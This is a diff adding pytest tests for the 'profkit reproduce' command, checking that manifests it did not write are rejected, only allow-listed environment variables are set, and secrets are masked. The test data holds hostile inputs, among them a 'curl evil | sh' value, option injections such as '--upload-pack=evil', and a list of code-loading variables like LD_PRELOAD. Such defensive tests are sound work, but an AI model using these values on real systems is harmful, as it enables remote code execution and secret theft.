@@ -1,13 +1,18 @@
 """What ``profkit reproduce`` prints, and a run that it really makes again."""
 
 import copy
+import io
 import json
+import os
+import shlex
 import subprocess
 
 import pytest
 
-from profkit.cli import main
-from profkit.cli.reproduce import commands, differences, overrides
+from profkit.cli import main, reproduce
+from profkit.cli.manifest_of_run import overrides
+from profkit.cli.reproduce import commands, differences
+from profkit.core import secret_store
 from tests.conftest import SMALL
 
 DIRTY = {
@@ -142,6 +147,103 @@ def test_a_manifest_that_says_too_little_is_a_readable_error(
     assert message in capsys.readouterr().err
 
 
+@pytest.fixture
+def run_again(tmp_path, monkeypatch, capsys):
+    """Return a function that would run a manifest again; it returns what was said and started.
+
+    Somebody is there to be asked only if there is an answer.
+    """
+    started = []
+
+    def run(command, *, env, **_):
+        started.append((command, env))
+        return subprocess.CompletedProcess(command, 1)
+
+    def again(manifest, *flags, answer=None):
+        (tmp_path / "manifest.json").write_text(json.dumps(manifest))
+        terminal = io.StringIO(answer or "")
+        terminal.isatty = lambda: answer is not None
+        monkeypatch.setattr("sys.stdin", terminal)
+        assert main(["reproduce", ".", "--run", *flags]) == 1
+        return capsys.readouterr(), started
+
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setattr(reproduce.subprocess, "run", run)
+    return again
+
+
+@pytest.mark.parametrize(
+    ("path", "value", "said"),
+    [
+        ("run", "../../elsewhere", "cannot name a folder"),
+        ("run", "-rf", "cannot name a folder"),
+        ("run", ["r"], "Expected `str`"),
+        ("overrides", ["batch=4", "--"], "'--' is an option"),
+        ("overrides", ["--", "--snakefile=evil.smk"], "'--snakefile=evil.smk' is an option"),
+        ("overrides", ["-F"], "'-F' is an option"),
+        ("overrides", ["batch=4\x1b[2K"], "cannot be shown"),
+        ("overrides", ["batch=4", 5], "Expected `str`"),
+        ("overrides", "batch=4", "Expected `array`"),
+        ("captures", [], "there are none"),
+        ("captures", [{"repeat": "9"}], "Expected `int`"),
+        ("git.project.commit", "--upload-pack=evil", "is no commit"),
+        ("git", {"project": {}}, "required field `folder`"),
+        ("environment", ["A=1"], "Expected `object`"),
+    ],
+)
+def test_a_manifest_that_profkit_did_not_write_runs_nothing(path, value, said, run_again, tmp_path):
+    told, started = run_again(changed(path, value), "--yes")
+    assert said in told.err
+    assert started == []
+    assert [path.name for path in tmp_path.iterdir()] == ["manifest.json"]
+
+
+def test_only_plain_variables_of_the_allow_list_are_set(run_again):
+    plain = {"NCCL_DEBUG": "INFO", "OMP_PLACES": "{0:4}", "NCCL_SOCKET_IFNAME": "^lo"}
+    others = {
+        **dict.fromkeys(("LD_PRELOAD", "NCCL_NET_PLUGIN", "PYTORCH_NVCC"), "evil"),
+        **dict.fromkeys(("CUDA_INJECTION64_PATH", "PYTHONPATH", "PATH", "HF_TOKEN"), "evil"),
+        **dict.fromkeys(("TORCH_LOGS_OUT", "TRITON_X"), "/etc/x; curl evil | sh"),
+    }
+    told, ((_, environment),) = run_again(changed("environment", plain | others), "--yes")
+    assert plain.items() <= environment.items()
+    assert {name: environment.get(name) for name in others} == {
+        name: os.environ.get(name) for name in others
+    }
+    assert f"not set, as they name code or files: {', '.join(sorted(others))}" in told.out
+
+
+@pytest.mark.parametrize(
+    ("answer", "count", "said"),
+    [
+        (None, 0, "nobody can be asked"),
+        ("\n", 0, "nothing was run"),
+        ("no\n", 0, "nothing was run"),
+        ("y\n", 1, "the run failed"),
+    ],
+)
+def test_what_is_run_is_shown_and_confirmed(answer, count, said, run_again):
+    told, started = run_again(MANIFEST, answer=answer)
+    assert "profkit run batch=4 'model=glob(*)' repeats=3" in told.out
+    assert said in told.err
+    assert len(started) == count
+
+
+def test_a_secret_is_a_reference_here_and_a_placeholder_elsewhere():
+    here, elsewhere = secret_store.reference("hunter2"), "profkit-secret-0123456789abcdef"
+    words = [f"workload.command='t.py --api-key {here} --password {elsewhere}'"]
+    *_, known, unknown, command = commands("r", changed("overrides", words))
+    assert known == f"# {here} stands for a secret, which is known on this machine"
+    assert unknown == f"# {elsewhere} stands for a secret, which is to be put in again"
+    assert shlex.split(command) == ["profkit", "run", *words, "repeats=3"]
+
+
+def test_a_manifest_with_a_masked_secret_is_not_run(run_again):
+    told, started = run_again(changed("overrides", ["launcher.env.X_TOKEN=[masked]"]), "--yes")
+    assert "a secret was masked" in told.err
+    assert started == []
+
+
 def test_a_run_that_is_not_there_names_the_nearest(tmp_path, monkeypatch, capsys):
     (tmp_path / "results/runs/gpt_tiny").mkdir(parents=True)
     (tmp_path / "results/runs/gpt_tiny/manifest.json").write_text(json.dumps(MANIFEST))
@@ -170,7 +272,7 @@ def test_a_run_is_made_again_beside_the_first_and_is_the_same(default_tree, tmp_
     assert printed.splitlines()[-1].startswith("profkit run world_size=1 launcher=python")
     shell = subprocess.run(["sh", "-n"], input=printed, text=True, check=False)
     assert shell.returncode == 0
-    done = tree.run("profkit", "reproduce", folder.name, "--run")
+    done = tree.run("profkit", "reproduce", folder.name, "--run", "--yes")
     assert done.returncode == 0, done.stdout + done.stderr
     assert "configuration, versions, machine and sources are as they were" in done.stdout
     made = list(tree.folder.glob(f"results/.profkit/reproduced/{folder.name}/*/results/runs/*"))
